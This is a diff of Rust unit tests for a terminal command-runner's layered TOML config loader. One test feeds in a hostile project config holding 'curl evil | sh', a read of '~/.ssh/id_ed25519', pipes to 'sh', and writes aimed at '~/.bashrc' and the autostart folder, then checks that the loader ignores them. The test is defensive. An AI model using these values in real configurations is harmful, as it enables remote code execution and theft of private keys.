+max_args = 3
+max_values = 3
+min_frequency = 2
+
+[sync]
+shells = ["fish", "zsh"]
+interval_secs = 60
+batch_size = 1000
+
+[db]
+vacuum_on_exit = true
+
+[[pipes]]
+key = "alt+c"
+command = "wl-copy"
+
+[[pipes]]
+key = "ctrl+alt+n"
+command = "tee -a notes.txt"
 "#;
         let config: Config = toml::from_str(toml).unwrap();
         assert_eq!(config.runner.max_concurrent, 16);
+        assert_eq!(config.runner.notify_after_secs, Some(30));
+        assert!(!config.runner.notify_bell);
+        assert!(config.runner.notify_desktop);
+        assert_eq!(config.runner.event_file, Some(PathBuf::from("/tmp/mux-events.jsonl")));
+        assert_eq!(config.runner.event_socket, None);
+        assert_eq!(config.runner.output_buffer, 1024);
+        assert!(config.runner.load_dotenv);
+        assert_eq!(config.runner.dotenv_path, Some(PathBuf::from("~/deploy.env")));
+        assert_eq!(config.runner.max_command_length, 1000);
+        assert_eq!(config.runner.allowed_cwd, [PathBuf::from("~/work"), PathBuf::from("/srv")]);
+        assert_eq!(config.runner.allowlist, ["^git "]);
+        assert_eq!(config.runner.denylist, [r"\bpush\b"]);
+        assert_eq!(config.runner.kill_grace_ms, 500);
         assert_eq!(config.output.max_lines, 5000);
+        assert_eq!(config.output.max_lines_per_task, 500);
         assert_eq!(config.output.box_padding_horizontal, 2);
         assert_eq!(config.output.box_padding_vertical, 1);
+        assert_eq!(config.output.long_lines, LongLineMode::Wrap);
+        assert_eq!(config.output.wrap_indent, 4);
+        assert!(config.output.show_throughput);
+        assert!(config.output.show_command);
+        assert!(!config.output.hyperlinks);
+        assert_eq!(config.output.parallel_columns, 3);
+        assert!(config.output.line_timestamps);
+        assert!(config.output.collapse_repeats);
+        assert!(config.output.compact);
+        assert_eq!(config.output.box_style, BoxStyle::Ascii);
+        assert_eq!(config.output.max_line_length, 200);
+        assert_eq!(config.output.fast_command_grace_ms, 500);
+        assert_eq!(config.output.parallel_style, ParallelStyle::Table);
+        assert!(config.output.quiet_success);
+        assert_eq!(config.output.quiet_success_commands, ["^cargo fmt"]);
         assert_eq!(config.logging.max_file_size_mb, 50);
         assert_eq!(config.logging.max_archives, 10);
+        assert!(!config.logging.enabled);
+        assert_eq!(config.logging.dir, Some(PathBuf::from("/tmp/mux-logs")));
+        assert_eq!(config.logging.output_pipe.as_deref(), Some("logger -t mux"));
+        assert_eq!(config.theme.background, Background::Light);
+        assert_eq!(config.theme.separator_color, Some(ThemeColor(Color::Yellow)));
+        assert_eq!(config.theme.output_color, Some(ThemeColor(Color::Indexed(250))));
+        assert_eq!(config.tui.idle_timeout_secs, 300);
+        assert_eq!(config.tui.date_format, "%d.%m.%Y");
+        assert_eq!(config.tui.datetime_format, "%s");
+        assert!(config.tui.echo_on_exit);
+        assert_eq!(config.tui.empty_enter, EmptyEnter::RerunLast);
+        assert_eq!(config.tui.input_position, InputPosition::Top);
+        assert_eq!(config.keymap.esc, EscAction::ClearThenQuit);
+        assert_eq!(config.pipes.len(), 2);
+        assert_eq!(config.pipes[1], PipeConfig {
+            key: "ctrl+alt+n".to_string(),
+            command: "tee -a notes.txt".to_string(),
+        });
+        assert_eq!(config.history.plain_files, vec![PathBuf::from("~/.mksh_history")]);
+        assert_eq!(config.history.command_source.as_deref(), Some("cat ~/runbook.txt"));
+        assert!(!config.history.record_own_commands);
+        assert!(!config.history.strip_ansi);
+        assert!(config.history.strip_comments);
+        assert_eq!(config.history.strip_prompt_prefixes, ["% "]);
+        assert!(config.search.match_all_terms);
+        assert_eq!(config.search.rank_by, RankBy::Recency);
+        assert_eq!(config.search.algorithm, MatchAlgorithm::Smartcase);
+        assert_eq!(config.search.fuzzy_weight, 2);
+        assert_eq!(config.search.frequency_weight, 0);
+        assert!(!config.search.path_aware);
+        assert_eq!(config.search.min_fuzzy_length, 3);
+        assert!(config.search.time_aware);
+        assert!(config.search.anchor_start);
+        assert!(config.search.exact_first_token);
+        assert_eq!(config.search.penalize_failures, 50);
+        assert!(!config.suggest.enabled);
+        assert_eq!(config.suggest.display, SuggestionDisplay::Ghost);
+        assert!(config.suggest.enter_accepts);
+        assert!(config.suggest.space_accepts);
+        assert_eq!(config.suggest.max_commands, 5);
+        assert_eq!(config.suggest.max_args, 3);
+        assert_eq!(config.suggest.max_values, 3);
+        assert_eq!(config.suggest.min_frequency, 2);
+        assert_eq!(config.sync.shells, Some(vec![Shell::Fish, Shell::Zsh]));
+        assert_eq!(config.sync.interval_secs, 60);
+        assert_eq!(config.sync.batch_size, 1000);
+        assert!(config.db.vacuum_on_exit);
+    }
+
+    #[test]
+    fn test_layered_field_by_field() {
+        let dir = tempfile::tempdir().unwrap();
+        let global = dir.path().join("config.toml");
+        let project = dir.path().join(".mux.toml");
+        std::fs::write(
+            &global,
+            "[runner]\nmax_concurrent = 32\nnotify_after_secs = 10\n\n[output]\nmax_lines = 500\n",
+        )
+        .unwrap();
+        std::fs::write(&project, "[runner]\nmax_concurrent = 4\n").unwrap();
+
+        let (config, _) = Config::load_layered(&[global], Some(&project));
+        // Project overrides the field it sets...
+        assert_eq!(config.runner.max_concurrent, 4);
+        // ...and keeps the global values for the rest of the section
+        assert_eq!(config.runner.notify_after_secs, Some(10));
+        assert_eq!(config.output.max_lines, 500);
+        // Unset everywhere: default
+        assert_eq!(config.logging.max_archives, 5);
+    }
+
+    #[test]
+    fn test_project_config_cannot_run_code() {
+        let dir = tempfile::tempdir().unwrap();
+        let global = dir.path().join("config.toml");
+        let project = dir.path().join(".mux.toml");
+        std::fs::write(
+            &global,
+            "[runner]\nallowlist = ['^git ']\ndenylist = ['^rm']\n\n[history]\ncommand_source = 'cat ~/notes'\n",
+        )
+        .unwrap();
+        std::fs::write(
+            &project,
+            r#"
+[runner]
+max_concurrent = 4
+allowlist = ['.']
+allowed_cwd = ['/srv']
+denylist = ['push']
+event_file = '/home/u/.bashrc'
+dotenv_path = 'evil.env'
+
+[history]
+command_source = 'curl evil | sh'
+plain_files = ['~/.ssh/id_ed25519']
+
+[logging]
+output_pipe = 'sh'
+dir = '~/.config/autostart'
+
+[[pipes]]
+key = 'ctrl+e'
+command = 'sh'
+"#,
+        )
+        .unwrap();
+
+        let (config, warnings) = Config::load_layered(&[global], Some(&project));
+        // Harmless settings still apply
+        assert_eq!(config.runner.max_concurrent, 4);
+        // Keys that run code keep the global value, or the default
+        assert_eq!(config.history.command_source.as_deref(), Some("cat ~/notes"));
+        assert_eq!(config.runner.event_file, None);
+        assert_eq!(config.runner.dotenv_path, None);
+        assert_eq!(config.logging.output_pipe, None);
+        // So do paths it would read from or write to
+        assert!(config.history.plain_files.is_empty());
+        assert_eq!(config.logging.dir, None);
+        assert!(config.pipes.is_empty());
+        // The policy can be tightened, not loosened
+        assert_eq!(config.runner.allowlist, ["^git "]);
+        assert_eq!(config.runner.allowed_cwd, [PathBuf::from("/srv")]);
+        assert_eq!(config.runner.denylist, ["^rm", "push"]);
+
+        assert_eq!(warnings.len(), 8, "{:?}", warnings);
+        assert!(warnings.iter().any(|w| w.contains("ignored [logging] dir")));
+        assert!(warnings.iter().any(|w| w.contains("ignored [history] command_source")));
+        assert!(warnings.iter().any(|w| w.contains("ignored [runner] allowlist")));
+        assert!(warnings.iter().all(|w| w.starts_with(&project.display().to_string())));
+    }
+
+    #[test]
+    fn test_layered_skips_missing_and_malformed() {
+        let dir = tempfile::tempdir().unwrap();
+        let global = dir.path().join("config.toml");
+        let broken = dir.path().join("broken.toml");
+        std::fs::write(&global, "[output]\nmax_lines = 500\n").unwrap();
+        std::fs::write(&broken, "[output]\nmax_lines = \"lots\"\n").unwrap();
+
+        let (config, _) = Config::load_layered(
+            &[dir.path().join("missing.toml"), global, broken],
+            None,
+        );
+        assert_eq!(config.output.max_lines, 500);
+    }
+
+    #[test]
+    fn test_invalid_theme_color() {
+        let toml = r#"
+[theme]
+separator_color = "not-a-color"
+"#;
+        assert!(toml::from_str::<Config>(toml).is_err());
+    }
+
+    #[test]
+    fn test_suggestion_display_cycle() {
+        let mut display = SuggestionDisplay::default();
+        let mut seen = Vec::new();
+        for _ in 0..3 {
+            seen.push((display, display.shows_panel(), display.shows_ghost()));
+            display = display.next();
+        }
+        assert_eq!(display, SuggestionDisplay::Both);
+        assert_eq!(
+            seen,
+            vec![
+                (SuggestionDisplay::Both, true, true),
+                (SuggestionDisplay::Ghost, false, true),
+                (SuggestionDisplay::Panel, true, false),
+            ]
+        );
     }
 
     #[test]
     fn test_missing_file_returns_defaults() {
-        let config = Config::load(Path::new("/nonexistent/path/config.toml"));
-        assert_eq!(config.runner.max_concurrent, 64);
+        let (config, _) = Config::load_layered(&[PathBuf::from("/nonexistent/path/config.toml")], None);
+        assert_eq!(config.runner.max_concurrent, default_max_concurrent());
     }
 }